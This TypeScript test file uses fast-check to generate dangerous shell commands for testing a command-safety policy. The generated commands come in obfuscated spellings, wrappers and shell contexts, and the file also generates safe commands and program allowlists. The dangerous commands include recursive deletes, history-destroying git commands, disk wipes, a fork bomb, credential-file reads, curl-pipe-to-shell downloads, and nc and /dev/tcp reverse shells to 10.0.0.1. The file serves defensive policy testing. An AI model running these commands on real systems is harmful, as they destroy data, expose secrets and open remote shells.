import fc from 'fast-check';

/**
 * A grammar of known-bad shell forms (EXEC-1), so the shell policy is tested without the shared
 * corpus: a destructive core command (recursive deletes, git commands that discard work or
 * rewrite history, device writes, power, mass kills, permission sweeps, credential reads,
 * download-and-run) whose program is spelled in any of the ways a shell still resolves
 * (quoted, absolute, escaped), run through wrappers, shells, substitutions, lists and control flow.
 */

/** Programs a generous operator allowlists; with all of them allowed, a dangerous form must still ask or deny. */
export const DEVELOPER_PROGRAMS = [
  'git',
  'rm',
  'docker',
  'cargo',
  'npm',
  'kubectl',
  'yarn',
  'wget',
  'touch',
  'tail',
  'python',
  'node',
  'mv',
  'mkdir',
  'make',
  'ls',
  'less',
  'head',
  'echo',
  'curl',
  'cp',
  'cat',
] as const;

const pick = <T>(...values: T[]) => fc.constantFrom(...values);

/** How a program name may be written so that the shell still runs that program. */
function spelled(program: string): fc.Arbitrary<string> {
  const dirs = ['/bin/', '/usr/bin/', '/usr/local/bin/'];
  return fc.oneof(
    fc.constant(program),
    fc.constant(`"${program}"`),
    fc.constant(`'${program}'`),
    fc.constant(`\\${program}`),
    pick(...dirs).map((d) => `${d}${program}`),
    pick(...dirs).map((d) => `"${d}${program}"`),
    fc.integer({ min: 1, max: Math.max(1, program.length - 1) }).map((i) => `${program.slice(0, i)}""${program.slice(i)}`),
    fc.integer({ min: 1, max: Math.max(1, program.length - 1) }).map((i) => `${program.slice(0, i)}'${program.slice(i)}'`),
  );
}

const recursiveForce = pick(
  '-rf',
  '-fr',
  '-Rf',
  '-fR',
  '-r -f',
  '-f -r',
  '-R -f',
  '-rfv',
  '-vrf',
  '--recursive --force',
  '--force --recursive',
  '-r --force',
  '--recursive -f',
);
const deleteTarget = pick(
  '/',
  '/etc',
  '/home',
  '/usr',
  '/var/lib',
  '~',
  '~/',
  '~/Documents',
  '$HOME',
  '"$HOME"',
  '.',
  './build',
  'node_modules',
  'src',
  '*',
  '/*',
  '"/"',
  '/tmp/../etc',
  '$TMPDIR/../etc',
  '${TMPDIR}/../etc',
  '"$TMPDIR/../etc"',
  '~root',
);
const ref = pick('', ' HEAD', ' HEAD~1', ' HEAD~5', ' origin/main', ' origin/master', ' @{u}');
const paths = pick('.', 'file.txt', 'src/', 'README.md', ':/');
const remote = pick('', ' origin', ' origin main', ' upstream feature/x');

const rmCommand = fc.tuple(spelled('rm'), recursiveForce, deleteTarget).map(([p, f, t]) => `${p} ${f} ${t}`);

const gitCommand = fc
  .tuple(
    spelled('git'),
    fc.oneof(
      fc.tuple(pick('--hard', '--merge', '--keep'), ref).map(([m, r]) => `reset ${m}${r}`),
      fc.tuple(pick('checkout --', 'checkout HEAD --', 'checkout -f', 'checkout --force'), paths).map(([c, p]) => `${c} ${p}`),
      fc.tuple(pick('restore', 'restore --worktree', 'restore -W', 'restore --source=HEAD~1'), paths).map(([c, p]) => `${c} ${p}`),
      fc
        .tuple(pick('--force', '-f', '--mirror', '--delete', '--prune', '-d'), remote, fc.boolean())
        .map(([f, r, after]) => (after && r ? `push${r} ${f}` : `push ${f}${r}`)),
      pick('push origin +main', 'push origin +HEAD:main', 'push origin :feature', 'push upstream --delete feature/x'),
      pick('clean -f', 'clean -fd', 'clean -df', 'clean -fdx', 'clean -xdf', 'clean --force', 'clean -f -d -x'),
      pick('stash clear', 'stash drop', 'stash drop stash@{0}'),
      pick(
        'branch -D main',
        'branch -d -f feature',
        'filter-branch --all',
        'reflog expire --all',
        'commit --amend -m x',
        'update-ref -d HEAD',
      ),
    ),
  )
  .map(([g, sub]) => `${g} ${sub}`);

const systemCommand = fc.oneof(
  fc
    .tuple(pick('sda', 'sdb', 'nvme0n1', 'vda', 'mmcblk0'), pick('/dev/zero', '/dev/urandom', 'x.img'))
    .map(([d, src]) => `dd if=${src} of=/dev/${d} bs=1M`),
  pick(
    'mkfs.ext4 /dev/sdb1',
    'mkfs -t xfs /dev/sda',
    'wipefs -a /dev/sda',
    'echo x > /dev/sda',
    'cat x >> /dev/nvme0n1',
    'echo hi | tee /dev/sda',
  ),
  pick('shutdown -h now', 'shutdown -r +1', 'reboot', 'poweroff', 'halt', 'init 0', 'systemctl poweroff', 'systemctl reboot'),
  pick('kill -9 1', 'kill -9 -1', 'kill -KILL -1', 'pkill -9 -1'),
  fc
    .tuple(pick('chmod -R 777', 'chmod -R a+rwx', 'chown -R root:root', 'chown -R 0'), pick('/', '/etc', '.', '~'))
    .map(([c, t]) => `${c} ${t}`),
  fc
    .tuple(
      pick('cat', 'less', 'head', 'tail', 'cp'),
      pick('~/.ssh/id_rsa', '~/.ssh/id_ed25519', '/etc/shadow', '~/.aws/credentials', '.env', '~/.netrc', '~/.git-credentials'),
    )
    .map(([c, f]) => (c === 'cp' ? `cp ${f} /tmp/x` : `${c} ${f}`)),
  fc
    .tuple(
      pick('curl -fsSL', 'curl', 'wget -qO-'),
      pick('https://x.sh', 'http://10.0.0.1/i'),
      pick('sh', 'bash', 'sudo bash', 'python3', 'bash -s -- --yes'),
    )
    .map(([d, u, s]) => `${d} ${u} | ${s}`),
  pick('nc -e /bin/sh 10.0.0.1 4444', 'LD_PRELOAD=/tmp/x.so ls', 'GIT_SSH_COMMAND="sh -c id" git fetch'),
);

/** Shell-level forms (builtins, functions, redirections) that no wrapper program can run; used only inside contexts. */
const shellLevel = pick(
  ':(){ :|:& };:',
  'bomb() { bomb | bomb & }; bomb',
  'exec 3<>/dev/tcp/10.0.0.1/80',
  'export PATH=/tmp:$PATH',
  'eval "rm -rf /"',
  'a=rm; $a -rf /',
);

/** One destructive command without wrappers. */
const dangerousCore: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: rmCommand },
  { weight: 3, arbitrary: gitCommand },
  { weight: 2, arbitrary: systemCommand },
);

const wrapper = pick(
  'sudo',
  'sudo -u root',
  'doas',
  'env',
  'env -i',
  'env FOO=1',
  'nice',
  'nice -n 10',
  'nohup',
  'timeout 5',
  'timeout -s KILL 5',
  'command',
  'exec',
  'time',
  'stdbuf -oL',
  'ionice -c3',
);

/** A context around a command `c`; each keeps `c` runnable. Single-line unless `multiline`. */
function contexts(multiline: boolean): fc.Arbitrary<(c: string) => string> {
  const singleLine: fc.Arbitrary<(c: string) => string>[] = [
    fc.constant((c: string) => c),
    fc.constant((c: string) => `ls; ${c}`),
    fc.constant((c: string) => `ls && ${c}`),
    fc.constant((c: string) => `false || ${c}`),
    fc.constant((c: string) => `${c} | cat`),
    fc.constant((c: string) => `${c} &`),
    fc.constant((c: string) => `(${c})`),
    fc.constant((c: string) => `{ ${c}; }`),
    fc.constant((c: string) => `if true; then ${c}; fi`),
    fc.constant((c: string) => `for f in a; do ${c}; done`),
    fc.constant((c: string) => `echo $(${c})`),
    fc.constant((c: string) => `ls "$(${c})"`),
    fc.constant((c: string) => `X=$(${c}) ls`),
    pick('bash', 'sh', 'bash -e', 'dash').map((sh) => (c: string) => `${sh} -c "${c.replace(/["\\$`]/g, (m) => `\\${m}`)}"`),
    pick('bash', 'sh').map((sh) => (c: string) => `${sh} -c '${c.replace(/'/g, `'\\''`)}'`),
    fc.constant((c: string) => `eval "${c.replace(/["\\$`]/g, (m) => `\\${m}`)}"`),
  ];
  if (!multiline) return fc.oneof(...singleLine);
  return fc.oneof(
    ...singleLine,
    fc.constant((c: string) => `bash <<EOF\n${c}\nEOF`),
    fc.constant((c: string) => `sh <<'EOF'\n${c}\nEOF`),
  );
}

/** A known-bad command: a destructive core behind up to two wrappers (or a shell-level form), inside one context. */
export function dangerousCommand(options: { multiline?: boolean } = {}): fc.Arbitrary<string> {
  const wrapped = fc.tuple(fc.array(wrapper, { maxLength: 2 }), dangerousCore).map(([wrappers, core]) => [...wrappers, core].join(' '));
  return fc
    .tuple(fc.oneof({ weight: 9, arbitrary: wrapped }, { weight: 1, arbitrary: shellLevel }), contexts(options.multiline ?? true))
    .map(([command, context]) => context(command));
}

const file = pick('README.md', 'src/index.ts', 'package.json', 'docs/a.md', 'notes.txt');
const safeSimple = fc.oneof(
  pick(
    'git status',
    'git status --short',
    'git diff',
    'git diff --stat',
    'git branch',
    'git branch -a',
    'git remote -v',
    'git fetch',
    'git log --oneline',
    'git stash list',
    'git show --stat',
  ),
  fc.integer({ min: 1, max: 50 }).map((n) => `git log --oneline -n ${n}`),
  fc.tuple(pick('git diff', 'git log --', 'git blame', 'cat', 'head', 'tail', 'less', 'ls -la'), file).map(([c, f]) => `${c} ${f}`),
  fc.tuple(pick('head -n', 'tail -n'), fc.integer({ min: 1, max: 100 }), file).map(([c, n, f]) => `${c} ${n} ${f}`),
  pick(
    'ls',
    'ls -la',
    'ls src',
    'npm test',
    'npm run build',
    'cargo build',
    'cargo test',
    'make',
    'make test',
    'docker ps',
    'kubectl get pods',
    'yarn install',
  ),
  fc.tuple(pick('mkdir -p', 'touch'), pick('build', 'tmp/out', 'dist/x')).map(([c, d]) => `${c} ${d}`),
  fc.stringMatching(/^[a-z][a-z0-9]{0,11}$/).map((w) => `echo ${w}`),
  fc.tuple(pick('cp', 'mv'), file, pick('backup.md', 'tmp/')).map(([c, a, b]) => `${c} ${a} ${b}`),
);

/** An ordinary command built only from allowlisted developer programs (plus grep/wc/sort in pipelines). */
export const safeCommand: fc.Arbitrary<string> = fc
  .tuple(safeSimple, fc.array(pick('grep x', 'wc -l', 'head -n 5', 'sort'), { maxLength: 2 }))
  .map(([c, pipes]) => [c, ...pipes].join(' | '));

/** The programs safeCommand uses. */
export const SAFE_PROGRAMS = [...DEVELOPER_PROGRAMS, 'grep', 'wc', 'sort'];

/** Every program the generated dangerous forms use, wrappers and shells included: allowlisting all of them leaves the policy alone to stop them. */
export const FORM_PROGRAMS = [
  ...SAFE_PROGRAMS,
  ...[
    'sudo',
    'doas',
    'env',
    'nice',
    'nohup',
    'timeout',
    'command',
    'exec',
    'time',
    'stdbuf',
    'ionice',
    'bash',
    'sh',
    'dash',
    'eval',
    ':',
    'false',
    'true',
  ],
  ...[
    'dd',
    'mkfs',
    'mkfs.ext4',
    'wipefs',
    'tee',
    'shutdown',
    'reboot',
    'poweroff',
    'halt',
    'init',
    'systemctl',
    'kill',
    'pkill',
    'chmod',
    'chown',
    'nc',
    'python3',
  ],
];
